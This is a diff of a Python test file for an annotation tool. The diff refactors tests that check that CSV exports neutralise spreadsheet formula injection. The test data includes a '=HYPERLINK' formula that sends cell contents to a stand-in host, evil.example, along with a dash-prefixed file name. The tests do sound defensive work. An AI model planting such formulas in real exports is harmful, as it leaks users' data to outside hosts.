@@ -7,15 +7,12 @@ import csv
 import io
 from pathlib import Path
 
-import numpy as np
 import pytest
-from PIL import Image
 
 from pixelproof.cli import main
-from pixelproof.core import masks
-from pixelproof.core.coco import save_project
-from pixelproof.core.model import Annotation, Category, ImageRecord, Project
+from pixelproof.core.coco import load_project
 from pixelproof.core.safe_csv import Writer, cell, read_cell
+from tests.cli.test_report_outputs_cli import scored_project
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 
@@ -47,20 +44,8 @@ def test_writer_rows() -> None:
     assert rows == [["name", "", "-0.5", '{"a":[1]}'], ["'" + EVIL, "-1", "2", "'=1"]]
 
 
-def _project(path: Path, name: str) -> Path:
-    p = Project()
-    p.add_category(Category(1, name))
-    p.add_image(ImageRecord(1, "a.png", 40, 30))
-    m = np.zeros((30, 40), dtype=bool)
-    m[5:20, 5:25] = True
-    p.add_annotation(Annotation(1, 1, 1, masks.bbox(m), masks.encode(m), float(m.sum())))
-    Image.fromarray(np.full((30, 40, 3), 100, np.uint8)).save(path.parent / "a.png")
-    save_project(p, path)
-    return path
-
-
 def test_qa_csv_neutralises_a_category_named_like_a_formula(tmp_path: Path) -> None:
-    project = _project(tmp_path / "p.json", EVIL)
+    project = scored_project(tmp_path / "p.json", EVIL)
     assert main(["qa", str(project), str(project), "--csv", str(tmp_path / "qa.csv")]) == 0
     rows = list(csv.DictReader((tmp_path / "qa.csv").open(encoding="utf-8")))
     assert rows[0]["category"] == "'" + EVIL
@@ -68,10 +53,9 @@ def test_qa_csv_neutralises_a_category_named_like_a_formula(tmp_path: Path) -> N
 
 
 def test_openimages_tables_are_safe_and_round_trip(tmp_path: Path) -> None:
-    from pixelproof.core.coco import load_project
     from pixelproof.interop.openimages import read_openimages, write_openimages
 
-    project = load_project(_project(tmp_path / "p.json", EVIL))
+    project = load_project(scored_project(tmp_path / "p.json", EVIL))
     write_openimages(project, tmp_path / "oi", images="copy")
     text = (tmp_path / "oi" / "annotations" / "class-descriptions.csv").read_text(encoding="utf-8")
     assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
@@ -81,11 +65,10 @@ def test_openimages_tables_are_safe_and_round_trip(tmp_path: Path) -> None:
 
 
 def test_mask_folder_listing_is_safe_and_round_trips(tmp_path: Path) -> None:
-    from pixelproof.core.coco import load_project
     from pixelproof.interop import read_masks, write_masks
 
     (tmp_path / "src").mkdir()
-    project = load_project(_project(tmp_path / "src" / "p.json", "cat"))
+    project = load_project(scored_project(tmp_path / "src" / "p.json", "cat"))
     image = project.images[1]
     (tmp_path / "src" / "a.png").rename(tmp_path / "src" / "-a.png")
     image.file_name = "-a.png"
